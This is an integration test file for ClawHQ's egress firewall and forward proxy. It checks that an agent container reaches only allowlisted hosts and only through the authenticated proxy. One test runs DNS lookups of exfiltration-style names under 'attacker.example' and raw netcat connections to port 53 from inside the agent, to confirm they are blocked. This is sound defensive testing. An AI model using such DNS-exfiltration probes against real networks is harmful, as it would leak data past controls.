"""Egress policies, enforced by `clawhq serve`'s firewall and forward proxy, proven from inside
an agent.

A real `clawhq serve` (as root: it installs the rules and listens with its forward proxy on the
egress network's gateway) runs an agent of a plan whose policy is ``allowlist``, next to
stand-ins the test made in a network namespace (``outside.py``): an allowed destination at
198.51.100.2 (the namespace's side of the test's veth, listed in ``CLAWHQ_EGRESS_ALLOW``) and
"the internet" at 203.0.113.80 (not listed). Through the proxy the agent reaches the first and
is refused the second; directly it reaches neither, nor the host's other services. A control
test removes the rules and shows the direct probe gets through, so the refusals are the
firewall's doing. Then the plan's policy becomes ``none`` and the proxy refuses the agent too.

The agent's LLM token, which the proxy takes as its credential, lives only inside its
container; the test plants one it knows in the agent's row (as a digest, as ClawHQ keeps it).
"""

from __future__ import annotations

import contextlib
import os
import sqlite3
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest

from clawhq.credentials import hash_token
from clawhq.network.host import read_host_facts
from tests.integration.helpers import exec_in, sdk
from tests.integration.outside import (
    DNS_ANSWER,
    INTERNET,
    NS_SIDE,
    DnsStandIn,
    HostListener,
    Outside,
    sh,
    tear_down,
)
from tests.integration.served import Served, cli, serve_env
from tests.integration.test_isolation import BB, fetch

NETWORK = "clawhq-egr-open"
EGRESS_NETWORK = "clawhq-egr-test"
PORT_RANGE = "19800-19849"
TOKEN = "chqllm_egress-test-token-planted-by-the-test"

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root for iptables and netns")


@dataclass
class World:
    env: dict[str, str]
    server: Served
    outside: Outside
    gateway: str  # the egress network's: where ClawHQ and its proxy are for the agent
    proxy_port: int
    agent: dict[str, Any]
    headers: dict[str, str]
    admin: dict[str, str]
    resolvers: tuple[str, ...] = ()  # the host's, routed to the namespace's DNS stand-in

    @property
    def dns_outside(self) -> DnsStandIn:
        assert self.outside.dns is not None
        return self.outside.dns

    def lookup(self, name: str, server: str | None = None) -> tuple[int, str]:
        """``nslookup`` from inside the agent: by its resolver, or asking ``server``."""
        return exec_in(
            self.agent["containerId"],
            BB, "timeout", "5", BB, "nslookup", name, *([server] if server else []),
        )  # fmt: skip

    def tcp_53(self, server: str) -> None:
        """A TCP connection to port 53 of ``server`` from inside the agent (it sends nothing)."""
        exec_in(self.agent["containerId"], BB, "timeout", "3", BB, "nc", server, "53")

    def through_proxy(self, url: str, token: str = TOKEN) -> tuple[int, str]:
        proxy = f"http://agent:{token}@{self.gateway}:{self.proxy_port}"
        return exec_in(
            self.agent["containerId"],
            BB, "env", f"http_proxy={proxy}",
            BB, "timeout", "5", BB, "wget", "-q", "-O", "-", url,
        )  # fmt: skip

    def direct(self, url: str) -> tuple[int, str]:
        return fetch(self.agent["containerId"], url)

    def set_policy(self, policy: str) -> None:
        reply = httpx.patch(
            f"{self.server.base}/api/admin/plans/pro/egress",
            json={"policy": policy},
            headers=self.admin,
            timeout=10,
        )
        assert reply.status_code == 200, reply.text


def _token(env: dict[str, str], email: str, *flags: str) -> dict[str, str]:
    created = cli(env, "users", "create", email, *flags)
    assert created.returncode == 0, created.stderr
    return {"Authorization": f"Bearer {created.stdout.strip().splitlines()[-1]}"}


def _deploy(
    base: str,
    headers: dict[str, str],
    pin: tuple[str, dict[str, str]] | None = None,
    name: str = "fenced",
) -> dict[str, Any]:
    """Create and deploy an agent (``pin``: an image and the admin who pins it first) and wait
    for it to be RUNNING with a heartbeat."""
    created = httpx.post(
        f"{base}/api/agents",
        json={"name": name, "apiKey": "sk-test-123456"},
        headers=headers,
        timeout=10,
    ).json()
    assert "id" in created, created
    if pin is not None:
        image, admin = pin
        pinned = httpx.patch(
            f"{base}/api/admin/agents/{created['id']}", json={"image": image}, headers=admin
        )
        assert pinned.status_code == 200, pinned.text
    reply = httpx.post(f"{base}/api/agents/{created['id']}/deploy", headers=headers, timeout=30)
    assert reply.status_code == 202, reply.text
    body: dict[str, Any] = {}
    for _ in range(3000):
        body = httpx.get(f"{base}/api/agents/{created['id']}", headers=headers).json()
        if body["status"] == "RUNNING" and body["lastHeartbeat"]:
            return body
        assert body["status"] in ("DEPLOYING", "RUNNING"), body
        time.sleep(0.1)
    raise AssertionError(f"agent not running with a heartbeat: {body}")


@pytest.fixture(scope="module")
def world(
    tmp_path_factory: pytest.TempPathFactory, docker_runtime: Any, test_image: str
) -> Iterator[World]:
    tmp = tmp_path_factory.mktemp("egress")
    database = tmp / "clawhq.db"
    env = serve_env(
        tmp / "data",
        f"sqlite:///{database}",
        agent_network=NETWORK,
        egress_network=EGRESS_NETWORK,
        egress_allow=f"{NS_SIDE}:80",
        port_range=PORT_RANGE,
        agent_memory="2g",  # the real OpenClaw gateway's share (the busybox agent needs little)
        start_timeout="240",
        firewall="auto",
        supervise="false",  # the engine is shared (see test_network_isolation)
    )
    gateway = docker_runtime.ensure_network(EGRESS_NETWORK)
    bridge = docker_runtime.network_facts(EGRESS_NETWORK).bridge
    resolvers = tuple(str(a) for a in read_host_facts().dns_servers if not a.is_loopback)
    stack: list[Any] = []
    user_id = None
    try:
        outside = Outside(bridge, tmp, dns=True, also=resolvers).open()
        stack.append(outside)
        server = Served(env, tmp / "serve.log").start()
        stack.append(server)
        admin = _token(env, "egress-admin@example.com", "--admin")
        headers = _token(env, "egress@example.com", "--plan", "pro")
        user_id = httpx.get(f"{server.base}/api/auth/me", headers=headers).json()["id"]
        world = World(
            env,
            server,
            outside,
            gateway,
            int(env["CLAWHQ_EGRESS_PROXY_PORT"]),
            {},
            headers,
            admin,
            resolvers,
        )
        world.set_policy("allowlist")
        world.agent = _deploy(server.base, headers)
        with contextlib.closing(sqlite3.connect(database)) as db, db:
            db.execute(
                "UPDATE agents SET llm_token_hash = ? WHERE id = ?",
                (hash_token(TOKEN), world.agent["id"]),
            )
        yield world
    finally:
        tear_down(docker_runtime, env, user_id, stack, (NETWORK, EGRESS_NETWORK))


def test_the_agent_lives_on_the_egress_network_and_reaches_clawhq(world: World) -> None:
    info = sdk().api.inspect_container(world.agent["containerId"])
    assert list(info["NetworkSettings"]["Networks"]) == [EGRESS_NETWORK]
    env = dict(item.partition("=")[::2] for item in info["Config"]["Env"])
    assert env["CLAWHQ_EGRESS_POLICY"] == "allowlist"
    assert env["CLAWHQ_EGRESS_PROXY"] == f"http://{world.gateway}:{world.proxy_port}"
    # Its heartbeat arrived (the fixture waited for it): ClawHQ's port is open to it.
    assert world.agent["lastHeartbeat"]
    status = cli(world.env, "network", "status")
    assert status.returncode == 0 and "are in place" in status.stdout, status.stdout


def test_an_allowed_host_is_reached_through_the_proxy(world: World) -> None:
    before = world.outside.hits(NS_SIDE)
    code, out = world.through_proxy(f"http://{NS_SIDE}/")
    assert code == 0 and f"stand-in at {NS_SIDE}" in out, out
    assert world.outside.hits(NS_SIDE) == before + 1
    assert f"egress agent={world.agent['id']} dest={NS_SIDE}:80 allowed" in world.server.log()


def test_another_host_is_refused_through_the_proxy_and_the_token_is_required(
    world: World,
) -> None:
    code, out = world.through_proxy(f"http://{INTERNET}/")
    assert code != 0, out
    code, out = world.through_proxy(f"http://{NS_SIDE}/", token="chqllm_not-an-agents")
    assert code != 0, out
    assert world.outside.hits(INTERNET) == 0
    log = world.server.log()
    assert f"dest={INTERNET}:80 refused (not_allowed)" in log
    assert f"egress agent=- dest={NS_SIDE}:80 refused (unauthenticated)" in log


def test_direct_connections_go_nowhere(world: World) -> None:
    listener = HostListener("0.0.0.0")
    try:
        before = world.outside.hits(NS_SIDE)
        for url in (
            f"http://{INTERNET}/",  # "the internet"
            f"http://{NS_SIDE}/",  # the allowed host, but not through the proxy
            f"http://{world.gateway}:{listener.port}/",  # a service on the host
        ):
            code, out = world.direct(url)
            assert code != 0, f"{url} answered: {out}"
        assert world.outside.hits(INTERNET) == 0 and world.outside.hits(NS_SIDE) == before
        assert listener.hits == 0
    finally:
        listener.close()


@pytest.fixture(scope="module")
def gateway_dns(world: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[DnsStandIn]:
    """A resolver's stand-in on port 53 of the egress gateway (the host's side of the agent
    bridge): where ClawHQ points the agent's embedded resolver."""
    log = tmp_path_factory.mktemp("gateway-dns") / "dns.log"
    stand_in = DnsStandIn((world.gateway,), log).start()
    yield stand_in
    stand_in.close()


def _resolver_points_at_the_gateway(world: World) -> None:
    """Checked before any lookup: a container still on the engine's resolvers would send the
    control's lookups to the host's (to their stand-in here, but not by ClawHQ's doing)."""
    info = sdk().api.inspect_container(world.agent["containerId"])
    assert info["HostConfig"]["Dns"] == [world.gateway], info["HostConfig"]["Dns"]
    code, resolv = exec_in(world.agent["containerId"], BB, "cat", "/etc/resolv.conf")
    assert code == 0 and "nameserver 127.0.0.11" in resolv, resolv  # Docker's embedded one


def test_lookups_from_the_agent_reach_no_resolver(world: World, gateway_dns: DnsStandIn) -> None:
    _resolver_points_at_the_gateway(world)
    name = f"exfil-{world.agent['id'][:8]}.attacker.example"
    for server in (None, world.gateway, INTERNET, NS_SIDE, *world.resolvers):
        code, out = world.lookup(name, server)
        assert code != 0 and DNS_ANSWER not in out, f"{server or 'its resolver'}: {out}"
    for server in (world.gateway, INTERNET, *world.resolvers):
        world.tcp_53(server)
    assert gateway_dns.queries() == []
    assert world.dns_outside.queries() == []


def test_without_the_rules_lookups_reach_the_stand_ins(
    world: World, gateway_dns: DnsStandIn
) -> None:
    """The control: the lookups above go where the test looks for them, and only the rules
    stop them. The agent's resolver asks the gateway (nothing else: not the host's
    resolvers), and a lookup sent straight to a resolver outside gets there."""
    _resolver_points_at_the_gateway(world)
    name = f"control-{world.agent['id'][:8]}.attacker.example"
    assert cli(world.env, "network", "teardown").returncode == 0
    try:
        code, out = world.lookup(name)
        assert code == 0 and DNS_ANSWER in out, out
        direct = world.lookup(name, INTERNET)
        world.tcp_53(INTERNET)
    finally:
        assert cli(world.env, "network", "setup").returncode == 0
    asked = {line.split()[2] for line in gateway_dns.queries(world.gateway)}
    assert asked == {name}, gateway_dns.queries()
    assert direct[0] == 0 and DNS_ANSWER in direct[1], direct
    seen = world.dns_outside.queries()
    assert {line.split()[0] for line in seen} == {INTERNET}, seen  # never the host's resolvers
    assert any(line.split()[1] == "tcp-accept" for line in seen), seen
    assert world.lookup(name, INTERNET)[0] != 0  # and the rules are back


def test_without_the_rules_the_direct_probe_gets_through(world: World) -> None:
    """The control: the direct refusals above are the firewall's doing."""
    assert cli(world.env, "network", "teardown").returncode == 0
    try:
        code, out = world.direct(f"http://{INTERNET}/")
        assert code == 0 and f"stand-in at {INTERNET}" in out, out
    finally:
        assert cli(world.env, "network", "setup").returncode == 0
    assert world.direct(f"http://{INTERNET}/")[0] != 0


def test_under_policy_none_the_proxy_refuses_the_agent_too(world: World) -> None:
    world.set_policy("none")
    try:
        before = world.outside.hits(NS_SIDE)
        code, out = world.through_proxy(f"http://{NS_SIDE}/")
        assert code != 0, out
        assert world.outside.hits(NS_SIDE) == before
        assert f"dest={NS_SIDE}:80 refused (policy_none)" in world.server.log()
    finally:
        world.set_policy("allowlist")
    assert world.through_proxy(f"http://{NS_SIDE}/")[0] == 0


def test_the_proxy_listens_only_where_agents_are(world: World) -> None:
    lines = sh("ss", "-ltnH", f"sport = :{world.proxy_port}").stdout.splitlines()
    local = [line.split()[3] for line in lines]  # State Recv-Q Send-Q Local Peer
    assert local == [f"{world.gateway}:{world.proxy_port}"], lines


def test_the_real_openclaw_boots_and_answers_health_under_allowlist(
    world: World, openclaw_image: str
) -> None:
    """The production image behind the egress firewall, told to use the forward proxy: it
    boots, answers ClawHQ's health probe (RUNNING) and posts its heartbeat."""
    before = world.outside.hits(INTERNET)
    agent = _deploy(
        world.server.base, world.headers, pin=(openclaw_image, world.admin), name="openclaw"
    )
    info = sdk().api.inspect_container(agent["containerId"])
    assert list(info["NetworkSettings"]["Networks"]) == [EGRESS_NETWORK]
    assert info["Config"]["Image"] == openclaw_image
    env = dict(item.partition("=")[::2] for item in info["Config"]["Env"])
    assert env["CLAWHQ_EGRESS_PROXY"] == f"http://{world.gateway}:{world.proxy_port}"
    # Nothing it did reached the outside stand-in directly.
    assert world.outside.hits(INTERNET) == before
